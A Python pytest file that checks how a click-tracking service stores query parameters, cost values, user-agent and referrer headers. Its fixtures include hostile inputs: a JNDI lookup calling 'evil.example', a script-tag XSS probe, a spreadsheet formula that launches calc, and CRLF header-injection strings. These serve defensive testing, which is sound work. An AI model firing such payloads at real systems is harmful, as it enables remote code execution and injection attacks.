"""What a visitor sends and how it is kept: parameters, cost, user agent, referrer (api.md sections 1 and 6,
security X11 and X14).

Through http.client's eyes: test_clicks.py has the common values; here stands what it cannot send, and the long tables.
Where a visitor is sent: test_redirect_safety.py. Addresses: test_addresses.py.
"""

import pytest

from shared.campaigns import CampaignRow
from shared.traffic import Flag
from tests.integration.edge import rows
from tests.integration.edge.harness import Edge
from tests.integration.edge.hostile import campaigns
from tests.integration.edge.hostile.exchange import LINK, click

MAX_TEXT = 1_024


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        (b"%", "%"),
        (b"%%", "%%"),
        (b"%1", "%1"),
        (b"%G0", "%G0"),
        (b"%zz%41", "%zzA"),
        (b"%ff%FE", "%FF%FE"),
        (b"%C0%AF", "%C0%AF"),
        (b"%E0%80%AF", "%E0%80%AF"),
        (b"%F0%80%80%AF", "%F0%80%80%AF"),
        (b"%ED%A0%80", "%ED%A0%80"),
        (b"%F4%90%80%80", "%F4%90%80%80"),
        (b"%E2%82", "%E2%82"),
        (b"%00%01%1f%7f", "%00%01%1F%7F"),
        (b"%0d%0a", "%0D%0A"),
        (b"%0D%0A%20X:%20y", "%0D%0A X: y"),
        (b"%C2%85%C2%9F", "%C2%85%C2%9F"),
        (b"%E2%80%A8", "%E2%80%A8"),
        (b"%250d%250a", "%0d%0a"),
        (b"%u000d", "%u000d"),
        (b"a+b%2Bc", "a b+c"),
        (b"%EF%BB%BFx", "\ufeffx"),
        (b"\xe2\x82\xac", "€"),
        (b"'%22<>\\", "'\"<>\\"),
    ],
)
@pytest.mark.parametrize("name", ["sub1", "utm_source", "gclid", "external_id", "anything"])
def test_a_value_is_kept_printable(edge: Edge, name: str, raw: bytes, kept: str) -> None:
    _, event = click(edge, LINK + b"?" + name.encode() + b"=" + raw)
    details = event["details"]
    places = {
        "sub1": details["subs"].get("sub1"),
        "gclid": details["platform_ids"].get("gclid"),
        "external_id": details["external_id"],
    }
    assert places.get(name, details["params"].get(name)) == kept


@pytest.mark.parametrize("name", [b"%00", b"%ff", b"%0d%0aX", b"%E2%80%AE", b"__proto__", b"%zz", b"a%5B%5D", b"\xff"])
def test_a_name_is_kept_printable_too(edge: Edge, name: bytes) -> None:
    _, event = click(edge, LINK + b"?" + name + b"=v")
    (kept,) = event["details"]["params"]
    assert not any(ord(character) < 32 or 127 <= ord(character) < 160 for character in kept)
    assert event["details"]["params"][kept] == "v"


@pytest.mark.parametrize(("count", "flagged"), [(99, False), (100, False), (101, True), (500, True)])
def test_a_hundred_parameters_are_kept(edge: Edge, count: int, flagged: bool) -> None:
    query = b"&".join(b"p%d=%d" % (number, number) for number in range(count))
    _, event = click(edge, LINK + b"?" + query)
    assert list(event["details"]["params"].items()) == [(f"p{n}", str(n)) for n in range(min(count, 100))]
    assert bool(event["flags"] & Flag.TRUNCATED_PARAMETERS) is flagged


@pytest.mark.parametrize(("size", "flagged"), [(MAX_TEXT, False), (MAX_TEXT + 1, True), (7_000, True)])
def test_a_kilobyte_of_a_value_is_kept(edge: Edge, size: int, flagged: bool) -> None:
    answer, event = click(edge, LINK + b"?sub1=" + b"v" * size)
    assert event["details"]["subs"]["sub1"] == "v" * MAX_TEXT
    assert answer.location.endswith("&sub=" + "v" * MAX_TEXT)
    assert bool(event["flags"] & Flag.TRUNCATED_PARAMETERS) is flagged


@pytest.mark.parametrize("query", [b"&" * 8_000, b"=" * 8_000, b"&=" * 4_000, b"a" * 8_000, b"%" * 8_000, b"?" * 8_000])
def test_a_query_of_separators_alone_is_a_click(edge: Edge, query: bytes) -> None:
    click(edge, LINK + b"?" + query)


@pytest.mark.parametrize(
    ("text", "cost"),
    [
        (b"0", 0),
        (b"0.000001", 1_000),
        (b"100", 100_000_000_000),
        (b"100.000000", 100_000_000_000),
        (b"00.5", 500_000_000),
        (b"100.000001", None),
        (b"101", None),
        (b"1234567", None),
        (b"1.1234567", None),
        (b"-1", None),
        (b"%2B1", None),
        (b"+1", None),
        (b"1e1", None),
        (b"0x10", None),
        (b"1,5", None),
        (b".5", None),
        (b"1.", None),
        (b"1%0a", None),
        (b"%00", None),
        (b"", None),
        (b"NaN", None),
        (b"Infinity", None),
        (b"%EF%BC%91", None),
        (b"%D9%A1", None),
        (b"%7Bcost%7D", None),
    ],
)
def test_a_cost_counts_only_as_a_small_plain_amount(edge: Edge, text: bytes, cost: int | None) -> None:
    """Nano-units; else the campaign's own 0.5, flagged."""
    _, event = click(edge, LINK + b"?cost=" + text)
    expected = (500_000_000, 0, True) if cost is None else (cost, 1, False)
    assert (event["cost"], event["cost_from"], bool(event["flags"] & Flag.COST_IGNORED)) == expected


@pytest.mark.parametrize(
    ("campaign", "query", "cost", "ignored"),
    [
        (campaigns.NO_COST_PARAMETER, b"cost=0.1", 500_000_000, True),
        (campaigns.SMALL_COSTS, b"cost=0.1", 500_000_000, True),
        (campaigns.SMALL_COSTS, b"bid=2.5", 2_500_000_000, False),
        (campaigns.SMALL_COSTS, b"bid=2.500001", 500_000_000, True),
        (rows.ACTIVE, b"cost=0.1&cost=99", 100_000_000, False),
        (rows.ACTIVE, b"COST=0.1", 500_000_000, False),
    ],
    ids=["not named", "named otherwise", "named so", "above its limit", "first of two", "another name"],
)
def test_a_cost_counts_only_where_the_source_names_it(
    edge: Edge, campaign: CampaignRow, query: bytes, cost: int, ignored: bool
) -> None:
    _, event = click(edge, f"/c/{campaign.uuid}?".encode() + query)
    assert (event["cost"], bool(event["flags"] & Flag.COST_IGNORED)) == (cost, ignored)


@pytest.mark.parametrize(
    ("agent", "kept"),
    [
        (b"", ""),
        (b"x" * 8_100, "x" * MAX_TEXT),
        (b"\xc3\xa9" * 2_000, "é" * 512),
        (b"a\x1b[31mb", "a%1B[31mb"),
        (b"${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}"),
        (b"<script>alert(1)</script>", "<script>alert(1)</script>"),
        (b"=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
        (b"a\tb", "a%09b"),
        (b"\xff\xfe", "%FF%FE"),
        (b"\xe2\x80\xaeevil", None),
        (b"Mozilla/5.0 " + b"(" * 4_000, ("Mozilla/5.0 " + "(" * 4_000)[:MAX_TEXT]),
    ],
    ids=[
        "empty",
        "8 KB",
        "8 KB of UTF-8",
        "ESC",
        "jndi",
        "script",
        "formula",
        "tab",
        "no UTF-8",
        "bidi",
        "parentheses",
    ],
)
def test_any_user_agent_is_taken_and_kept_printable(edge: Edge, agent: bytes, kept: str | None) -> None:
    _, event = click(edge, LINK, b"User-Agent: " + agent)
    stored = event["details"]["user_agent"]
    assert kept is None or stored == kept
    assert len(stored.encode()) <= MAX_TEXT
    assert not any(ord(character) < 32 or 127 <= ord(character) < 160 for character in stored)


def test_a_click_without_any_header_but_host_is_a_click(edge: Edge) -> None:
    _, event = click(edge, LINK)
    assert event["details"]["user_agent"] == event["details"]["referrer"] == event["details"]["language"] == ""


@pytest.mark.parametrize(
    ("referer", "kept"),
    [
        (b"https://a.example/x?secret=1#y", "https://a.example/x"),
        (b"https://user:password@a.example/x", "https://a.example/x"),
        (b"https://a.example/%0d%0aX: y", "https://a.example/%0d%0aX: y"),
        (b"\xff", "%FF"),
        (b"x" * 5_000, "x" * MAX_TEXT),
        (b"javascript:alert(1)", "javascript:alert(1)"),
    ],
)
def test_a_referrer_is_kept_without_query_and_secrets(edge: Edge, referer: bytes, kept: str) -> None:
    _, event = click(edge, LINK, b"Referer: " + referer)
    assert event["details"]["referrer"] == kept
    assert "secret" not in str(event)
    assert "password" not in str(event)
